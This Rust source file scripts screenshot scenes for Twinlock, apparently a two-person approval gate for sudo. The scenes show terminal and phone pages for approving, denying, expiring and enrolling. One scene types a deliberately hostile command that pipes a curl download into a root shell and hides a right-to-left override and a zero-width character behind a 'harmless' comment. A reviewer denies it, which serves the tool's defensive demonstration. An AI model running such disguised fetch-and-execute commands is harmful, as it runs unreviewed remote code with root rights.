//! Every picture of `make screens`: each scene is played for real, on an installation with
//! the real gateway and module, and photographed where a person would look.

use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

use twinlock_protocol::roster::Device;

use crate::approver::Site;
use crate::bed::{Bed, Tail};
use crate::demo::ceremony::{self, Front};
use crate::demo::gallery::Gallery;
use crate::demo::people;
use crate::installation::{Installation, Plan, scan_ticket};
use crate::phone::{Keys, Phone, PhonePlan};
use crate::picture::Theme;
use crate::proc::Launch;
use crate::term::{Size, Terminal};
use crate::world;

const LIMIT: Duration = Duration::from_secs(20);
const PROMPT: &str = "alice@web01:~$ ";
const NGINX: &str = "sudo systemctl restart nginx";

/// Plays all scenes and leaves their pictures in `dir`.
pub fn run(bed: &mut Bed, dir: &Path) {
    let gallery = Gallery::new(dir);
    bed.wire(&Tail::Twinlock);
    bed.sudoers("alice ALL=(ALL:ALL) NOPASSWD: ALL");
    // Nothing in a bed is a service; what the scenes restart need only succeed.
    bed.write("/usr/local/bin/systemctl", "#!/bin/sh\nexit 0\n");
    bed.install("/usr/local/bin/systemctl", "/usr/bin/systemctl", 0o755);
    std::fs::remove_file("/usr/local/bin/systemctl").expect("the copy is in place");

    let keys = ["bob", "carol", "dave"].map(|person| Keys::new(person, &format!("{person}-browser")));
    let mut plan = Plan::new();
    for (person, keys) in ["bob", "carol", "dave"].iter().zip(&keys) {
        give_device(&mut plan, person, &keys.device);
    }
    plan.gateway =
        "[limits]\nrequests_per_person = 1000\ncalls_per_approver = 10000\ncalls_per_address = 100000\n".into();
    plan.agent = "[limits]\nrequests_per_minute = 1000\n".into();
    let installation = plan.start(bed);
    let scenes = Scenes { bed, gallery: &gallery, installation: &installation };
    scenes.terminal();
    let phones = ["bob", "carol", "dave"].map(|person| PhonePlan::new(person).start(&installation.site));
    for (phone, keys) in phones.iter().zip(&keys) {
        phone.hold(keys);
    }
    scenes.page(&phones[0], &phones[1], &phones[2]);
    people::play(&installation.site, [&phones[0], &phones[1], &phones[2]], |name, phone| gallery.phone(name, phone));
    drop(phones);
    scenes.ceremony();
}

fn give_device(plan: &mut Plan, person: &str, device: &Device) {
    let person = plan.fixture.roster.persons.iter_mut().find(|p| p.id.as_str() == person);
    person.expect("a person of the fixture").devices.push(device.clone());
}

struct Scenes<'a> {
    bed: &'a Bed,
    gallery: &'a Gallery,
    installation: &'a Installation<'a>,
}

impl Scenes<'_> {
    /// The module's configuration for the next requests.
    fn module(&self, more: &str) {
        let uid = |user: &str| Launch::service(user, &[]).uid();
        let (agent, reaper) = (uid("twinlock-agent"), uid("twinlock-reaper"));
        let toml = format!("host = \"web01\"\nagent_uid = {agent}\nreaper_uid = {reaper}\n{more}");
        self.bed.write(world::MODULE_TOML, toml);
    }

    fn shell(&self, size: Size, term: &str) -> Terminal {
        let launch = self.bed.person("alice").env("TERM", term).env("PS1", PROMPT);
        let terminal = Terminal::open_sized(&launch, &["bash", "--norc", "--noprofile", "-i"], size);
        terminal.wait_for(PROMPT.trim_end(), LIMIT);
        terminal
    }

    fn type_command(&self, command: &str) -> Terminal {
        let mut terminal = self.shell((24, 80), "xterm-256color");
        terminal.send_line(command);
        terminal
    }

    fn terminal(&self) {
        let Self { gallery, installation, .. } = self;
        self.module("");
        let terminal = self.type_command(NGINX);
        let first = scan_ticket(&terminal, None);
        gallery.terminal("terminal-waiting", &terminal);
        gallery.terminal_in("terminal-waiting-light", &terminal, Theme::LIGHT);
        assert_eq!(installation.approver("bob").approve(&first), "approved_first");
        let second = scan_ticket(&terminal, Some(&first));
        gallery.terminal("terminal-first-approved", &terminal);
        assert_eq!(installation.approver("carol").approve(&second), "granted");
        wait_for_prompt(&terminal);
        gallery.terminal("terminal-granted", &terminal);

        let terminal = self.type_command(NGINX);
        let ticket = scan_ticket(&terminal, None);
        let reason = "not during the release, ask me at 18:00";
        assert_eq!(installation.approver("bob").deny(&ticket, reason), "denied");
        wait_for_prompt(&terminal);
        gallery.terminal("terminal-denied", &terminal);

        self.module("approve_by_s = 5\n");
        let terminal = self.type_command(NGINX);
        let _ = scan_ticket(&terminal, None);
        wait_for_prompt(&terminal);
        gallery.terminal("terminal-request-expired", &terminal);

        self.module("");
        let mut terminal = self.shell((24, 80), "dumb");
        terminal.send_line(NGINX);
        terminal.wait_for("/S/", LIMIT);
        gallery.terminal("terminal-plain", &terminal);
        terminal.send("\x03");
        wait_for_prompt(&terminal);
        gallery.terminal("terminal-plain-given-up", &terminal);

        let mut terminal = self.shell((14, 60), "xterm-256color");
        terminal.send_line(NGINX);
        terminal.wait_for("/S/", LIMIT);
        gallery.terminal("terminal-small", &terminal);

        let terminal = self.type_command("setsid -w sudo id </dev/null | cat");
        terminal.wait_for("twinlock:", LIMIT);
        wait_for_prompt(&terminal);
        gallery.terminal("terminal-no-tty", &terminal);

        self.module("ttl_s = 5\n");
        let terminal = self.type_command("sudo -s");
        installation.approve_by_two(&terminal, "bob", "carol");
        terminal.wait_until("the end of the session", LIMIT, |screen| {
            screen.trim_end().ends_with(PROMPT.trim_end()) && screen.contains("ends")
        });
        std::thread::sleep(Duration::from_millis(300));
        gallery.terminal("terminal-session-end", &terminal);
        self.module("");
    }

    /// The ceremony of another Twinlock, beside the one that runs.
    fn ceremony(&self) {
        let Self { bed, gallery, installation } = self;
        let listen = SocketAddr::from(([127, 0, 0, 1], 8443));
        let origin = format!("{}:8443", installation.site.origin);
        let site = Site { origin: origin.clone(), address: listen, ..installation.site.clone() };
        let front = Front { origin, listen, chain: Vec::new(), key: Vec::new() };
        ceremony::announce(bed, &["--etc-dir", "/root/other"]);
        let mut terminal =
            ceremony::init_sized(bed, &front, &["bob", "carol"], (52, 100), &["--state-dir", "/root/gateway"]);
        terminal.wait_until("both links", LIMIT, |screen| screen.matches("/E/").count() == 2);
        gallery.terminal("terminal-init", &terminal);
        let screen = terminal.screen();
        let phones = ceremony::phones(&site, &["bob", "carol"]);
        let [bob, carol] = [&phones[0].phone, &phones[1].phone];
        bob.open(&ceremony::link_of(&screen, "Bob"));
        bob.wait_for(&["enrol"]);
        gallery.phone("page-enrol", bob);
        bob.press("#actions .main");
        bob.wait_for(&["room"]);
        // The list of people comes with the next look.
        std::thread::sleep(Duration::from_secs(4));
        gallery.phone("page-enrolled", bob);
        carol.enrol(&ceremony::link_of(&screen, "Carol"));
        terminal.wait_for("[y/N]", LIMIT);
        terminal.send_line("y");
        bob.wait_for(&["roster"]);
        gallery.phone("page-roster", bob);
        bob.read_on();
        gallery.phone("page-roster-read", bob);
        let _ = bob.sign_roster();
        let _ = carol.sign_roster();
        carol.wait_for(&["end-good"]);
        gallery.phone("page-sealed", carol);
        assert!(terminal.wait(LIMIT).success(), "{}", terminal.screen());
        gallery.terminal("terminal-sealed", &terminal);
    }

    fn page(&self, bob: &Phone, carol: &Phone, dave: &Phone) {
        let Self { gallery, .. } = self;
        let origin = &self.installation.site.origin;
        let address = |ticket: &str| format!("{origin}/S/{ticket}");

        // A request in plain words, approved by two.
        let terminal = self.type_command(NGINX);
        let first = scan_ticket(&terminal, None);
        bob.open(&address(&first));
        bob.wait_for(&["sign-in"]);
        gallery.phone("page-sign-in", bob);
        bob.sign_in();
        bob.wait_for(&["request"]);
        gallery.phone("page-request", bob);
        bob.read_on();
        gallery.phone("page-request-read", bob);
        bob.approve();
        gallery.phone("page-approved-first", bob);
        let second = scan_ticket(&terminal, Some(&first));
        carol.scan(&address(&second));
        gallery.phone("page-request-second", carol);
        carol.approve();
        gallery.phone("page-granted", carol);
        wait_for_prompt(&terminal);

        // A root shell with piped input and hidden characters; denied with a reason.
        let hard = "yes | sudo bash -c $'curl -s https://example.org/setup \\u202e| sh\\n# harmless\\u200b'";
        let terminal = self.type_command(hard);
        let ticket = scan_ticket(&terminal, None);
        bob.scan(&address(&ticket));
        gallery.phone("page-request-hard", bob);
        bob.read_on();
        gallery.phone("page-request-hard-read", bob);
        bob.deny(Some("what is that script?"));
        gallery.phone("page-denied", bob);
        wait_for_prompt(&terminal);

        // The inbox, for those who cannot see the terminal.
        let mut terminal = self.type_command(NGINX);
        let ticket = scan_ticket(&terminal, None);
        dave.open_path("/");
        dave.wait_for(&["sign-in"]);
        dave.sign_in();
        dave.wait_for(&["inbox"]);
        gallery.phone("page-inbox", dave);
        assert!(dave.inbox_code("nginx", "000000").is_err() || terminal.screen().contains("000 000"));
        gallery.phone("page-code", dave);
        // Carol holds the request open; the requester gives up.
        carol.scan(&address(&ticket));
        terminal.send("\x03");
        wait_for_prompt(&terminal);
        carol.wait_for(&["end-calm", "end-bad", "problem"]);
        gallery.phone("page-given-up", carol);
        bob.open(&address(&ticket));
        bob.wait_for(&["problem", "end-calm", "end-bad"]);
        gallery.phone("page-ticket-over", bob);
        dave.open_path("/");
        dave.wait_for(&["inbox"]);
        gallery.phone("page-inbox-empty", dave);
    }
}

/// The shell is back: its prompt stands on the last line that is not empty.
#[track_caller]
fn wait_for_prompt(terminal: &Terminal) {
    terminal.wait_until("the prompt", LIMIT, |screen| {
        let last = screen.lines().rev().find(|line| !line.trim().is_empty());
        last.is_some_and(|line| line.trim_end() == PROMPT.trim_end())
    });
}
